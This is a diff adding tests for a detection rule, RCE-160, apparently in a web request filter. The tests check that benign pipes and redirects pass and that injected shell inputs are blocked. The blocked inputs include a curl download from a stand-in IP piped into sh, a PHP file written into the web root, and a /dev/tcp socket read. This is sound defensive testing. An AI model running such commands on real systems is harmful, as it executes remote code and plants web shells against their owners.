@@ -154,3 +154,29 @@ describe('NODE-120: Python code execution, not Python vocabulary', () => {
     expectDetected(req, 'NODE-120');
   });
 });
+
+describe('RCE-160: redirection to a sensitive place or a pipe into an interpreter', () => {
+  it.each([
+    ['reStructuredText badge substitutions', 'Boto3\n=====\n\n|version| |python| |license|\n\nBoto3 is an SDK.'],
+    ['an option list in brackets', '# Templates\n\nOne per language:\n\n* init app --language=[csharp|java|python|py]'],
+    ['a pipe before a package name with a dash', '+ add alternate dependency for ronn | ruby-ronn'],
+    ['output discarded to /dev/null', 'git rev-list --stdin </dev/null used to be an error'],
+  ])('allows %s', (_name, text) => {
+    // Prepare
+    const req = json({ title: 'doc', body: text });
+    // Act + Assess
+    expectNotFlaggedBy(req, 'RCE-160');
+  });
+
+  it.each([
+    ['a download piped into a shell', 'x`curl -s http://198.51.100.7/a | sh`'],
+    ['a script piped into python', 'cat x | python'],
+    ['a write into the web root', 'x > /var/www/html/s.php'],
+    ['a read from a TCP socket', 'x < /dev/tcp/198.51.100.7/80'],
+  ])('blocks %s at sensitivity 70', (_name, value) => {
+    // Prepare
+    const req = json({ host: value });
+    // Act + Assess
+    expectDetected(req, 'RCE-160');
+  });
+});
